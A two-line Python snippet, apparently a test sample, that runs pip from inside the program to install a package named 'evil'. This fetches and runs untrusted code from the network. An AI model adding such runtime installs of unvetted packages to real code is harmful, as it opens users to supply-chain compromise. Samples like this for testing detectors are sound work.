import subprocess, sys
subprocess.run([sys.executable, "-m", "pip", "install", "evil"])
